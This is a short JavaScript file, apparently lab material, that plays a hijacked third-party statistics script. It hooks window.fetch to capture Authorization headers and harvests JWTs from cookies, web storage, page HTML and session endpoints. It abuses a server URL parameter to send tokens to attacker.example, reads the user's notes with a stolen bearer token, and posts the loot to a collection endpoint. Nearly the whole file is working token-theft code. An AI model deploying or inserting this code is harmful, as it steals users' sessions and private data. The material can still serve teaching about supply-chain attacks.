// A statistics script, on the day after its maker's server was taken over. The page loads it as it did the day before.
// #region look
const seen = new Map();

/** Remembers every access token in a text, with where it was. */
function look(where, text) {
  for (const [jwt] of text.matchAll(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g))
    if (!seen.has(jwt)) seen.set(jwt, where);
  return text;
}
// #endregion look

// #region listen
// From now on, what the app's own scripts send passes here first.
const send = window.fetch;
window.fetch = (...call) => {
  look("a request of the app's own", new Request(...call).headers.get("Authorization") ?? "");
  return send(...call);
};
// #endregion listen

// #region ask
// Its author has read the app's scripts, as anybody can, and knows what there may be to ask.
const ask = (address, headers = {}) =>
  send(address, { headers: { "X-Notes-Client": "1", ...headers } }).then(
    (answer) => (answer.ok ? answer.text() : ""),
    () => "",
  );

async function takeWhatItCan() {
  look("document.cookie", document.cookie);
  look("localStorage", JSON.stringify({ ...localStorage, ...sessionStorage }));
  look("the page's HTML", document.documentElement.outerHTML);
  look("/api/auth/session", await ask("/api/auth/session"));
  look("/api/backend/token", await ask("/api/backend/token"));

  // The server may carry the token out by itself, to an address that it is given.
  await ask(`/api/backend?url=${encodeURIComponent("https://attacker.example/collect")}`);

  // And while the page is open: whatever its user may do.
  const [token] = seen.keys();
  const read = [await ask("/api/backend/notes"), await ask("/api/backend?url=/v1/notes")];
  if (token) read.push(await ask("/mock-backend/v1/notes", { Authorization: `Bearer ${token}` }));

  return {
    tokens: [...seen].map(([jwt, where]) => ({ jwt, where })),
    cookies: document.cookie,
    stored: Object.keys({ ...localStorage, ...sessionStorage }),
    notes: read.join("").match(/(?<="title":")[^"]+/g) ?? [],
  };
}
// #endregion ask

// #region leave
// On the web this goes to a server of the attacker's. In the lab that server has an address on this site.
takeWhatItCan().then((loot) => send("/api/lab/collect", { method: "POST", body: JSON.stringify(loot) }));
// #endregion leave
